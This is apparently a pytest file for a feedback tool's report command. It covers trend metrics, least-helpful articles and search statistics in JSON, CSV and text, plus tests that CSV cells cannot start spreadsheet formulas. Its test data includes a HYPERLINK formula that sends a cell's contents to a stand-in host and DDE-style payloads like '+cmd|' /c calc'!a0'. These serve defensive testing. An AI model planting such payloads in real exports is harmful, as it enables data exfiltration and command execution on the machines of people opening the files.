"""`python -m feedback report`: trends (this period vs the previous one), least helpful articles with their
reasons, searches (top, found nothing, no click), as text, JSON and CSV, through the real command line."""
from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest

from feedback.databases import open_storage
from feedback.storage import Search, SQLiteStorage, View, Vote
from feedback_support import postgres, write_catalogue
from test_feedback_cli import cli

INJECTION = '=HYPERLINK("http://x.example/?"&A1,"open")'


def events(now: datetime) -> list:
    """Known data. This period (the last 30 days): 7 votes, 6 views, 10 searches of which 4 found nothing;
    the previous 30 days: 3 votes, 6 views, 4 searches of which 1 found nothing; 100 days ago: outside both."""
    ago = lambda days: now - timedelta(days=days)                         # noqa: E731
    current = ([Vote(1, "fr", "yes", None, ago(1))] * 3
               + [Vote(1, "fr", "no", "Il manque une capture.", ago(2), None, "outdated")]
               + [Vote(3, "fr", "no", None, now, None, "missing-steps"), Vote(3, "fr", "no", None, now)]
               + [Vote(2, "en", "yes", None, ago(5))]
               + [View(1, "fr", now.date())] * 4 + [View(2, "en", ago(3).date())] * 2
               + [Search("fr", "facture", 4, None, ago(1))] * 2
               + [Search("fr", "facture", 4, 1, ago(2))]
               # the widget reports a search, then its click, with one search_id: one search, clicked
               + [Search("fr", "facture", 4, None, now, "s-0000000001"),
                  Search("fr", "facture", 4, 1, now, "s-0000000001")]
               + [Search("fr", "remboursement partiel", 0, None, ago(3))] * 2
               + [Search("fr", INJECTION, 0, None, now)]
               + [Search("en", "invoice", 3, None, ago(4))] * 2
               + [Search("en", "refund\u202eevil", 0, None, now)])       # a bidi override: dropped when stored
    previous = ([Vote(1, "fr", "no", None, ago(40))] * 2 + [Vote(2, "en", "no", None, ago(35))]
                + [View(1, "fr", ago(45).date())] * 6
                + [Search("fr", "facture", 2, 1, ago(40))] * 3 + [Search("en", "refund", 0, None, ago(50))])
    older = [Vote(2, "fr", "yes", None, ago(100))] * 5 + [Search("fr", "vieux", 0, None, ago(100))]
    return current + previous + older


@pytest.fixture
def filled(tmp_path):
    cat = write_catalogue(tmp_path / "kb-catalogue.json")
    storage = SQLiteStorage(tmp_path / "f.sqlite3")
    now = datetime.now(timezone.utc).replace(hour=12, minute=0, second=0, microsecond=0)
    storage.record(events(now))
    storage.close()
    return tmp_path, cat, now


def report(tmp_path, cat, *args, db=("--db", "f.sqlite3")):
    r = cli("report", *db, "--catalogue", str(cat), *args, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    return r.stdout


def metrics(data, lang):
    return {m["name"]: m for t in data["trends"] if t["lang"] == lang for m in t["metrics"]}


def test_json_report_gives_what_was_recorded(filled):
    tmp_path, cat, now = filled
    data = json.loads(report(tmp_path, cat, "--format", "json"))
    today = now.date()
    assert data["period"] == {"days": 30, "start": (today - timedelta(days=29)).isoformat(), "end": today.isoformat()}
    assert data["previous_period"] == {"start": (today - timedelta(days=59)).isoformat(),
                                       "end": (today - timedelta(days=30)).isoformat()}
    every = metrics(data, "all")
    assert {k: (m["current"], m["previous"], m["change"]) for k, m in every.items()} == {
        "votes": (7, 3, 4), "views": (6, 6, 0), "helpful_ratio": (pytest.approx(4 / 7), 0.0, pytest.approx(4 / 7)),
        "searches": (10, 4, 6), "zero_result_rate": (pytest.approx(0.4), 0.25, pytest.approx(0.15))}
    assert every["votes"]["relative"] == pytest.approx(4 / 3)
    fr, en = metrics(data, "fr"), metrics(data, "en")
    assert (fr["votes"]["current"], fr["votes"]["previous"], fr["helpful_ratio"]["current"]) == (6, 2, 0.5)
    assert (fr["searches"]["current"], fr["searches"]["previous"], fr["zero_result_rate"]["current"]) == (7, 3, 3 / 7)
    assert (en["votes"]["current"], en["votes"]["previous"], en["votes"]["change"]) == (1, 1, 0)
    assert (en["zero_result_rate"]["current"], en["zero_result_rate"]["previous"]) == (pytest.approx(1 / 3), 1.0)

    rows = [(a["lang"], a["id"], a["yes"], a["no"], a["views"]) for a in data["least_helpful"]]
    assert rows == [("fr", 3, 0, 2, 0), ("fr", 1, 3, 1, 4), ("en", 2, 1, 0, 2)]     # 0 %, 75 %, 100 %
    third, first = data["least_helpful"][:2]
    assert third["title"] == "Troisième article"
    assert third["reasons"] == {"outdated": 0, "missing-steps": 1, "unclear": 0, "other": 0}
    assert first["reasons"] == {"outdated": 1, "missing-steps": 0, "unclear": 0, "other": 0}
    assert [c["comment"] for c in first["comments"]] == ["Il manque une capture."]

    top = {lang: [(q["query"], q["searches"], q["zero_results"], q["clicks"]) for q in qs]
           for lang, qs in data["top_queries"].items()}
    injection = INJECTION.lower()                   # queries are kept normalised (lower case)
    assert top == {"fr": [("facture", 4, 0, 2), ("remboursement partiel", 2, 2, 0), (injection, 1, 1, 0)],
                   "en": [("invoice", 2, 0, 0), ("refundevil", 1, 1, 0)]}
    assert data["top_queries"]["fr"][0]["click_rate"] == 0.5
    assert [q["query"] for q in data["zero_result_queries"]["fr"]] == ["remboursement partiel", injection]
    assert [q["query"] for q in data["zero_result_queries"]["en"]] == ["refundevil"]
    assert data["no_click_queries"] == {"fr": [], "en": [{"query": "invoice", "searches": 2, "zero_results": 0,
                                                          "clicks": 0, "click_rate": 0.0}]}
    assert data["totals"] == {"votes": 7, "views": 6, "searches": 10}


def test_csv_report_opens_in_a_spreadsheet_without_formulas(filled):
    tmp_path, cat, _ = filled
    out = report(tmp_path, cat, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    sections = {r["section"] for r in rows}
    assert sections == {"trend", "least_helpful", "top_query", "zero_result_query", "no_click_query"}
    trend = {(r["lang"], r["subject"]): r for r in rows if r["section"] == "trend"}
    assert (trend[("all", "votes")]["current"], trend[("all", "votes")]["previous"]) == ("7", "3")
    assert trend[("fr", "views")]["change"] == "-2"                  # a number stays a number: no quote
    zero = [(r["lang"], r["subject"], r["searches"], r["zero_results"]) for r in rows
            if r["section"] == "zero_result_query"]
    # a query that a spreadsheet would run as a formula is shown as text
    assert zero == [("fr", "remboursement partiel", "2", "2"), ("fr", "'" + INJECTION.lower(), "1", "1"),
                    ("en", "refundevil", "1", "1")]
    assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "@")]
    third = next(r for r in rows if r["section"] == "least_helpful" and r["id"] == "3")
    assert (third["lang"], third["subject"], third["no"], third["reason_missing-steps"], third["helpful_ratio"]) \
        == ("fr", "Troisième article", "2", "1", "0.0")
    top = [(r["lang"], r["subject"], r["clicks"], r["click_rate"]) for r in rows if r["section"] == "top_query"]
    assert top[0] == ("fr", "facture", "2", "0.5")
    assert [r["subject"] for r in rows if r["section"] == "no_click_query"] == ["invoice"]


def test_text_report_has_every_section(filled):
    tmp_path, cat, _ = filled
    out = report(tmp_path, cat)
    for heading in ("Trends (this period vs the previous one):", "Least helpful articles first",
                    "Top searches, fr:", "Top searches, en:", "Searches that found nothing (write the article, or add the words to the keywords: of the one that answers), fr:",
                    "Searches with results but no click (add the words to the keywords: of the article that answers, or to docs/synonyms.yml), en:"):
        assert heading in out
    lines = out.splitlines()
    votes = next(l for l in lines if l.split()[:2] == ["all", "votes"])
    assert votes.split()[2:] == ["7", "3", "+4", "(+133%)"]
    ratio = next(l for l in lines if l.split()[:3] == ["fr", "helpful", "ratio"])
    assert ratio.split()[3:] == ["50%", "0%", "+50", "pts"]
    zero = lines[lines.index("Searches that found nothing (write the article, or add the words to the keywords: of the one that answers), fr:") + 3]
    assert zero.split() == ["2", "2", "0", "0%", "remboursement", "partiel"]
    assert "reasons: missing-steps 1" in out and "reasons: outdated 1" in out
    assert "\u202e" not in out and "refundevil" in out       # the override never reaches the terminal
    assert "Total: 7 votes, 6 views, 10 searches." in out


def test_a_shorter_period_one_language_and_everything(filled):
    tmp_path, cat, _ = filled
    week = json.loads(report(tmp_path, cat, "--format", "json", "--days", "7", "--lang", "en"))
    assert week["languages"] == ["en"] and [t["lang"] for t in week["trends"]] == ["en"]
    # the last 7 days vs the 7 before: 1 vote (5 days ago) vs none, 3 searches vs none
    en = metrics(week, "en")
    assert (en["votes"]["current"], en["votes"]["previous"], en["votes"]["relative"]) == (1, 0, None)
    assert (en["searches"]["current"], en["searches"]["previous"]) == (3, 0)
    assert [(a["lang"], a["id"]) for a in week["least_helpful"]] == [("en", 2)]
    assert list(week["top_queries"]) == ["en"]

    everything = json.loads(report(tmp_path, cat, "--format", "json", "--days", "0"))
    assert everything["previous_period"] is None and everything["period"]["start"] is None
    assert everything["totals"] == {"votes": 15, "views": 12, "searches": 15}
    assert {m["previous"] for t in everything["trends"] for m in t["metrics"]} == {None}
    assert "vieux" in [q["query"] for q in everything["zero_result_queries"]["fr"]]
    text = report(tmp_path, cat, "--days", "0")
    assert "all the data kept" in text and "Trends" not in text


def test_report_reads_postgresql_as_sqlite(filled):
    tmp_path, cat, now = filled
    url = postgres().new_database()
    storage = open_storage(database_url=url)
    storage.record(events(now))
    storage.close()
    from_pg = json.loads(report(tmp_path, cat, "--format", "json", db=("--database-url", url)))
    from_sqlite = json.loads(report(tmp_path, cat, "--format", "json"))
    assert {k: v for k, v in from_pg.items() if k != "generated"} \
        == {k: v for k, v in from_sqlite.items() if k != "generated"}


FORMULAS = ["aide;=1+1;", "=1+1", "+cmd|' /c calc'!a0", "-2+3", "@sum(a1)", '"=1+1"', "a,=1+1", "a;+1",
            "a, -1+1", "x; @a", "ok;'=1", "=1;=2,=3"]


def _cells_as_a_spreadsheet_may_split(out: str):
    """Every cell of the CSV as a spreadsheet could read it: split by the csv module, or naively on ",",
    ";" or a tab (no quote handling), line by line; spaces and double quotes around a cell stripped."""
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(out, newline=""), delimiter=delimiter):
            yield from row
        for line in out.replace("\r\n", "\n").split("\n"):
            yield from line.split(delimiter)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_a_formula_whatever_the_separator(tmp_path):
    """Queries a reader could type to run a formula in the spreadsheet the report is opened in: through
    the real database and the real command, no cell, however the line is split, starts one."""
    cat = write_catalogue(tmp_path / "kb-catalogue.json")
    storage = SQLiteStorage(tmp_path / "f.sqlite3")
    storage.record([Search("fr", q, 0) for q in FORMULAS])
    storage.close()
    out = report(tmp_path, cat, "--format", "csv", "--days", "0")
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    subjects = {r["subject"] for r in rows if r["section"] == "zero_result_query"}
    assert subjects == {"aide;'=1+1;", "'=1+1", "'+cmd|' /c calc'!a0", "'-2+3", "'@sum(a1)", "'\"=1+1\"",
                        "a,'=1+1", "a;'+1", "a,' -1+1", "x;' @a", "ok;''=1", "'=1;'=2,'=3"}
    assert all(line.startswith('"') for line in out.splitlines())              # every cell quoted
    dangerous = [cell for cell in _cells_as_a_spreadsheet_may_split(out)
                 if cell.strip(' "')[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell.strip(' "'))]
    assert dangerous == []


@pytest.mark.parametrize("text,safe", [
    ("=1", "'=1"), (" =1", "' =1"), ('"=1', "'\"=1"), ("a\t=1", "a\t'=1"), ("\t=1", "'\t'=1"),
    ("a\r=1", "a\r'=1"), ("a\n+1", "a\n'+1"), ("\rx", "'\rx"), ("e-mail", "e-mail"), ("2 offres", "2 offres"),
])
def test_csv_text_neutralises_every_place_a_cell_can_start(text, safe):
    from feedback.formats import csv_text
    assert csv_text(text) == safe
